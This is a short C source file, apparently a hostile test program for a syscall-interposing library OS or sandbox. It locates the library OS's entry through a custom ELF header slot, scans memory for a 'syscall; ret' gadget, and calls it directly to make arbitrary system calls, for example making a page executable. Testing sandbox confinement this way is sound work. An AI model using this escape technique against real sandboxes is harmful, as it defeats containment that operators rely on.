/* SPDX-License-Identifier: Apache-2.0 */
/*
 * breakout.c - a hostile program: finds the one instruction in its address space that may make system calls, and
 * makes the call that its argument names by it.
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/auxv.h>
#include <sys/mman.h>
#include <unistd.h>

#define SLOT 0x62746872u /* of the rewritten program: holds the address of the library OS's entry */

static bool is_readable(const uint8_t *at)
{
	return access((const char *)at, F_OK) == 0 || errno != EFAULT;
}

static const uint8_t *find_instruction(void)
{
	const Elf64_Phdr *header = (const Elf64_Phdr *)getauxval(AT_PHDR);
	const uint8_t *entry = NULL;
	for (unsigned long i = 0; i < getauxval(AT_PHNUM); i++)
		if (header[i].p_type == SLOT)
			entry = *(const uint8_t *const *)header[i].p_vaddr;
	if (!entry)
		return NULL;
	const uint8_t *start = (const uint8_t *)((uintptr_t)entry & ~(uintptr_t)4095), *end = start;
	while (is_readable(start - 4096))
		start -= 4096;
	while (is_readable(end + 4096))
		end += 4096;
	for (const uint8_t *at = start; at + 3 < end; at++)
		if (memcmp(at, "\x0f\x05\xc3", 3) == 0)
			return at;
	return NULL;
}

static long call(const uint8_t *instruction, long number, long a, long b, long c)
{
	long result;
	__asm__ volatile("call *%[at]"
			 : "=a"(result)
			 : "a"(number), "D"(a), "S"(b), "d"(c), [at] "r"(instruction)
			 : "rcx", "r11", "memory");
	return result;
}

int main(int argc, char **argv)
{
	const uint8_t *instruction = find_instruction();
	long number = argc > 1 ? strtol(argv[1], NULL, 10) : -1;
	if (!instruction) {
		puts("no instruction");
		return 3;
	}
	/* Arguments that would be good ones: a page of ours made executable, a file that is there. */
	static char page[4096] __attribute__((aligned(4096))) = "/etc/passwd";
	printf("returned %ld\n",
		call(instruction, number, (long)page, sizeof(page), PROT_READ | PROT_EXEC));
	return 0;
}
